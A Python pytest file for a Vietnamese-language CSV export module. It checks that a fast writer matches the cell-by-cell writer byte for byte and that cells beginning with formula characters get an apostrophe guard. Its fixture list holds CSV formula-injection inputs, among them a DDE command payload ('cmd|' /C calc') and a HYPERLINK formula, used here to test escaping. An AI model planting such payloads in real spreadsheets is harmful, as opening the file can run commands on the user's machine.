"""The quick way of writing a big CSV (``csv_bytes(..., date_columns=...)``) gives the very bytes
of the cell-by-cell way, whatever the cells hold; a control character or a carriage return in
any cell sends the whole file the cell-by-cell way. Real files are written by the two exports
and read back with the csv module.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import random

import pytest

from giaoban.core import csvfile
from giaoban.core.csvfile import CsvForm, csv_bytes

D = dt.date
AWKWARD = (
    "=HYPERLINK(\"http://x?y=\"&A1,\"Bấm\")", "+1", "-5+cmd|' /C calc'!A0", "@SUM(A1)",
    "\t=1", "bình thường", "a;\"=b", "a,\"=b", "x;", "x,", "dòng một\ndòng hai", "\n=1",
    "trích \"dẫn\"", "\"=1", "", "đường liên xã; ngõ 3, số 5", "a\n\"=b", ";=", ",=", "=",
)


def _rows(seed: int, count: int) -> list[tuple[object, ...]]:
    pick = random.Random(seed)
    rows = []
    for number in range(count):
        day = D(2020, 1, 1) + dt.timedelta(days=pick.randrange(2500))
        answered = pick.choice([None, day + dt.timedelta(days=3),
                                dt.datetime(2026, 11, 29, 23, 30, tzinfo=dt.UTC)])
        rows.append((pick.choice(AWKWARD), number, day, pick.choice(AWKWARD), answered,
                     pick.choice([None, "", *AWKWARD]), pick.choice(AWKWARD)))
    return rows


def _quick(rows: list[tuple[object, ...]], form: CsvForm) -> bytes | None:
    """The quick way's file, None when it gives way to cell by cell."""
    return csvfile._quick_bytes(HEADER, csvfile.cell_texts(rows, form, [2, 4]), form)


HEADER = ("=Tiêu đề", "Số", "Ngày", "Nội dung", "Ngày trả lời", "Ghi chú", "Cuối")


@pytest.mark.parametrize("form", list(CsvForm))
@pytest.mark.parametrize("seed", [1, 2, 3])
def test_the_quick_way_writes_the_same_bytes(form: CsvForm, seed: int) -> None:
    rows = _rows(seed, 400)
    assert _quick(rows, form) is not None  # the quick way was taken
    quick = csv_bytes(HEADER, rows, form, date_columns=[2, 4])
    assert quick == csv_bytes(HEADER, rows, form)
    cells = list(csv.reader(io.StringIO(quick.decode("utf-8-sig"), newline=""),
                            delimiter=form.delimiter))
    assert len(cells) == len(rows) + 1
    for written, row in zip(cells[1:], rows, strict=True):
        for text, value in zip(written, row, strict=True):
            if isinstance(value, str) and value.startswith(csvfile.FORMULA_STARTS):
                assert text == "'" + value  # every formula start guarded, in every column
            elif isinstance(value, str):
                assert text == value


@pytest.mark.parametrize("bad", ["xuống\rdòng", "a\r\n=b", "nul\x00=1", "\x0b=1", "c1\x85",
                                 "\ufffe", "\x1f"])
def test_a_control_character_anywhere_goes_cell_by_cell(bad: str) -> None:
    rows = _rows(7, 50)
    rows[37] = (*rows[37][:5], bad, rows[37][6])
    assert _quick(rows, CsvForm.EXCEL) is None
    assert csv_bytes(HEADER, rows, date_columns=[2, 4]) == csv_bytes(HEADER, rows)


def test_the_first_cell_of_the_body_and_no_rows() -> None:
    rows = [("=1", 1, D(2026, 11, 29), "", None, None, "-")]
    assert csv_bytes(HEADER, rows, date_columns=[2, 4]) == csv_bytes(HEADER, rows)
    assert csv_bytes(HEADER, [], date_columns=[2, 4]) == csv_bytes(HEADER, [])
    body = _quick(rows, CsvForm.EXCEL).decode("utf-8-sig").split("\r\n", 1)[1]
    assert body.startswith("\"'=1\";\"1\";\"29/11/2026\"")
